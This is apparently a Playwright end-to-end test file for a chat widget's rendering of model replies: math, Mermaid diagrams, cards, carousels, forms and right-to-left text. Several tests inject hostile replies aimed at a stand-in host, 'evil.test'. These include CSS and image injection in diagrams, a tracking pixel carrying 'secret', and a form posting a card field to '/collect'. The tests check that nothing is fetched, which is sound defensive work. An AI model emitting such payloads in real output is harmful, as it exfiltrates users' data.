import type { Page, Request } from 'playwright-core';
import { afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { chatOn, eventually, hasMessages, sees, type Chat } from '../chat';
import { plainPage, scriptTag } from '../hostPages/hostServer';
import { useStack } from '../useStack';

const { browser, stack, host } = await useStack();
let page: Page;
let chat: Chat;
let requests: Request[];

beforeAll(async () => {
  host.pages.set('/', { html: plainPage(scriptTag(stack.origin)) });
});
beforeEach(async () => {
  page = await (await browser.newContext({ permissions: ['clipboard-read', 'clipboard-write'] })).newPage();
  requests = [];
  page.on('request', (request) => requests.push(request));
  await page.goto(host.origin);
  chat = chatOn(page);
  await chat.open();
});
afterEach(async () => {
  stack.model.release();
  await page.context().close();
});

/** Asks, and lets the model answer with this text in one piece. */
async function answerWith(text: string): Promise<void> {
  stack.model.script = [text];
  await chat.ask('Show me');
  await chat.frame.getByRole('button', { name: 'Send', exact: true }).waitFor();
}

/** Fences, so that the texts below stay readable. */
const fence = (info: string, body: string): string => `\`\`\`${info}\n${body}\n\`\`\``;

describe('W-17 math', () => {
  it('is set by KaTeX, loaded when the first formula comes, and prices stay prices', async () => {
    expect(requests.some((request) => request.url().includes('katex'))).toBe(false);
    await answerWith('It costs $5 to $10. Euler: $e^{i\\pi} + 1 = 0$.\n\n$$\\int_0^1 x^2 dx = \\frac{1}{3}$$');
    await chat.frame.locator('.katex').nth(1).waitFor();
    await sees(chat.messages.last(), 'It costs $5 to $10.');
    expect(await chat.frame.locator('.katex math').count()).toBe(2);
  });
});

describe('W-18 diagrams', () => {
  it('are drawn where they reach nothing, cleaned, shown with text that can be selected and found, and copied', async () => {
    await answerWith(fence('mermaid', 'flowchart LR\n  A[Order] --> B[Roast] --> C[Ship]'));
    const picture = chat.frame.getByRole('img').last();
    await picture.waitFor();
    const drawn = await picture.evaluate((element) => {
      const shadow = element.shadowRoot;
      const label = [...(shadow?.querySelectorAll('text') ?? [])].find(
        ({ textContent }) => textContent.trim() === 'Roast',
      );
      const shape = shadow?.querySelector('.node rect');
      getSelection()?.selectAllChildren(label ?? element);
      return {
        label: label?.textContent.trim(),
        // The rules that Mermaid wrote apply although the policy allows no style elements.
        fill: shape && getComputedStyle(shape).fill,
        banned: shadow?.querySelectorAll('style, script, image, a, foreignObject, [href]').length,
      };
    });
    expect(drawn).toEqual({ label: 'Roast', fill: expect.stringMatching(/^rgb\(2\d\d/) as string, banned: 0 });
    const sandboxes = chat.frame.locator('iframe[sandbox]');
    expect(await sandboxes.evaluateAll((frames) => frames.map((frame) => frame.getAttribute('sandbox')))).toEqual([
      'allow-scripts',
    ]);
    await chat.frame.getByRole('button', { name: 'Copy' }).first().click();
    await chat.frame.getByText('Diagram copied to your clipboard').first().waitFor();
  });

  it('A115 load nothing, whatever they ask for', async () => {
    const evil = 'http://evil.test';
    await answerWith(
      [
        fence('mermaid', `%%{init:{"themeCSS":"*{background:url(${evil}/css)}"}}%%\nflowchart LR\n A --> B`),
        fence('mermaid', `flowchart LR\n A["<img src='${evil}/img'>"] --> B`),
        fence('mermaid', `flowchart LR\n A@{ img: "${evil}/node", label: "x" } --> B`),
      ].join('\n\n'),
    );
    await chat.frame.locator('figure, pre').nth(2).waitFor({ state: 'attached' });
    await page.waitForTimeout(4000);
    const reached = requests.filter(
      (request) => request.url().startsWith(evil) && request.failure()?.errorText !== 'csp',
    );
    expect(reached.map((request) => request.url())).toEqual([]);
  });

  it('that cannot be drawn are shown as their source', async () => {
    await answerWith(fence('mermaid', 'flowchart LR\n A -->'));
    await sees(chat.messages.last(), 'flowchart LR');
  });
});

describe('W-19 W-20 cards and carousels', () => {
  it('show what they have and drop what is not usable', async () => {
    await answerWith(
      `${fence(
        'card',
        'title: Trail shoe\ndescription: In stock in **Lisbon**.\nbuttons:\n  - caption: See the shoe\n    ' +
          'href: https://shop.example.com/trail',
      )}\n\n${fence(
        'carousel',
        'items:\n  - title: Room with sea view\n    description: 120 EUR a night\n    buttons:\n      - ' +
          '{caption: Tell me more}\n  - {nothing: here}\n  - title: Garden room',
      )}`,
    );
    await sees(chat.messages.last(), 'Trail shoe');
    expect(await chat.frame.getByRole('link', { name: /See the shoe/ }).getAttribute('href')).toBe(
      'https://shop.example.com/trail',
    );
    const carousel = chat.frame.locator('[aria-roledescription="carousel"]');
    await carousel.waitFor();
    expect(await carousel.getByText(/room/i).count()).toBeGreaterThanOrEqual(2);
  });

  it('W-20 a carousel is 400 px high and its places are 200 px wide, whatever is in them', async () => {
    await answerWith(
      fence(
        'carousel',
        `items:\n  - title: Room with sea view\n    description: ${'A long description. '.repeat(40)}\n  - title: Garden room`,
      ),
    );
    const places = chat.frame.locator('.sotto-carousel-item');
    await places.first().waitFor();
    expect(
      await places.evaluateAll((all) =>
        all.map((one) => `${String((one as HTMLElement).offsetWidth)} × ${String((one as HTMLElement).offsetHeight)}`),
      ),
    ).toEqual(['200 × 400', '200 × 400', '200 × 400']);
    expect(await chat.frame.locator('.sotto-carousel-track').evaluate((one) => (one as HTMLElement).offsetHeight)).toBe(
      400,
    );
  });
});

describe('W-21 button groups', () => {
  it('send a suggestion once, and keep links inside the page’s own origin', async () => {
    await answerWith(
      fence(
        'buttons',
        '- caption: Track my order\n- caption: Returns\n  message: How do I send something back?\n- {caption: Evil, href: //evil.test}',
      ),
    );
    const choice = chat.frame.getByRole('button', { name: 'Returns' });
    // Before that the model has perhaps not been asked yet, and would answer the question with the next text.
    await choice.waitFor();
    stack.model.script = ['Like this.'];
    await choice.click();
    await hasMessages(chat, 4);
    await eventually(() => {
      expect(stack.model.questions.at(-1)).toContain('How do I send something back?');
    });
    expect(await chat.frame.getByRole('button', { name: 'Track my order' }).isDisabled()).toBe(true);
    expect(await chat.frame.locator('a[href*="evil"]').count()).toBe(0);
  });
});

describe('W-22 forms', () => {
  it('without an address become a message with their values', async () => {
    await answerWith(
      fence(
        'form',
        'submit: Request the return\nfields:\n  - {name: order, label: Order number, required: true}\n  - ' +
          '{name: reason, label: Reason, type: select, options: [Too small, Damaged], default: Damaged}\n  - ' +
          '{name: secret, label: Secret, type: password}',
      ),
    );
    const submit = chat.frame.getByRole('button', { name: 'Request the return' });
    await submit.waitFor();
    expect(await chat.frame.locator('input[type=password]').count()).toBe(0);
    await submit.click();
    await hasMessages(chat, 2);
    stack.model.script = ['Noted.'];
    await chat.frame.getByLabel('Order number').fill('A-10023');
    await submit.click();
    await eventually(() => {
      expect(stack.model.questions.at(-1)).toContain('Order number: A-10023');
      expect(stack.model.questions.at(-1)).toContain('Reason: Damaged');
    });
  });

  it('A111 to a stranger cannot be sent', async () => {
    await answerWith(
      fence('form', 'url: https://evil.test/collect\nsubmit: Send it\nfields:\n  - {name: card, label: Card}'),
    );
    const submit = chat.frame.getByRole('button', { name: 'Send it' });
    await submit.waitFor();
    expect(await submit.isDisabled()).toBe(true);
  });
});

describe('W-16 code', () => {
  it('is coloured when its fence is closed', async () => {
    await answerWith(fence('js', 'const answer = 42; // sure'));
    await chat.frame.locator('pre code span').first().waitFor();
    expect(await chat.frame.locator('pre code').innerText()).toBe('const answer = 42; // sure');
    // The page's style sheet once more would stand behind those of parts and win over them.
    expect(await chat.frame.locator('link[rel=stylesheet]').count()).toBe(1);
  });
});

describe('A201 what a reply asks for is not fetched by itself', () => {
  it('pictures of strangers wait for a click, links are never fetched', async () => {
    await answerWith(
      '![tracking](https://evil.test/pixel.png?q=secret) and [a link](https://evil.test/page) and <img src="https://evil.test/raw.png">',
    );
    await sees(chat.messages.last(), /evil\.test/);
    await page.waitForTimeout(500);
    expect(requests.filter((request) => request.url().includes('evil.test')).map((request) => request.url())).toEqual(
      [],
    );
  });
});

describe('VI-22 a reply in Hebrew in a chat in English', () => {
  it('has its tables, cards and buttons from right to left', async () => {
    const cards = ['עט נובע', 'מחברת', 'דיו', 'נייר'].map((title) => `- title: ${title}`).join('\n');
    await answerWith(
      `| תכונה | אישי |\n|---|---|\n| מחיר | זול |\n\n${fence('carousel', cards)}\n\n${fence('buttons', '- caption: כן\n- caption: לא')}`,
    );
    const left = async (selector: string): Promise<number> =>
      (await chat.frame.locator(selector).boundingBox())?.x ?? Number.NaN;
    await chat.frame.locator('.sotto-choice').last().waitFor();
    expect(await left('th >> nth=0')).toBeGreaterThan(await left('th >> nth=1'));
    expect(await left('.sotto-choice >> nth=0')).toBeGreaterThan(await left('.sotto-choice >> nth=1'));
    expect(await left('.sotto-carousel-item >> nth=0')).toBeGreaterThan(await left('.sotto-carousel-item >> nth=1'));
    // The shade is on the side where more cards are, and the arrow points there.
    const track = chat.frame.locator('.sotto-carousel-track');
    expect(await track.evaluate((element) => getComputedStyle(element).maskImage)).toContain('rgb(0, 0, 0) 28px');
    const icon = chat.frame.locator('.sotto-carousel-button svg').last();
    expect(await icon.evaluate((element) => getComputedStyle(element).transform)).toBe('matrix(-1, 0, 0, 1, 0, 0)');
  });
});

describe('VI-30 text from right to left', () => {
  it('shows telephone numbers, dates and paths in their own order, and copies what was written', async () => {
    const text = 'اتصل بنا على +961 1 234 567 يوم 2026-11-27، والملف /etc/hosts.';
    await answerWith(text);
    const bubble = chat.frame.locator('.sotto-bubble').last();
    await eventually(async () => {
      expect(await bubble.locator('bdi').allTextContents()).toEqual(['+961 1 234 567', '2026-11-27', '/etc/hosts']);
    });
    // Where each character stands: from left to right inside a piece, and the pieces from right to left.
    const places = await bubble.locator('bdi').evaluateAll((pieces) =>
      pieces.map(({ firstChild }) => {
        const range = document.createRange();
        return [...(firstChild?.textContent ?? '')].map((_, at) => {
          range.setStart(firstChild as Node, at);
          range.setEnd(firstChild as Node, at + 1);
          return Math.round(range.getBoundingClientRect().left);
        });
      }),
    );
    for (const piece of places) expect(piece).toEqual(piece.toSorted((one, other) => one - other));
    await chat.frame.getByRole('button', { name: 'Copy' }).last().click();
    await eventually(async () => {
      expect(await page.evaluate('navigator.clipboard.readText()')).toBe(text);
    });
  });
});
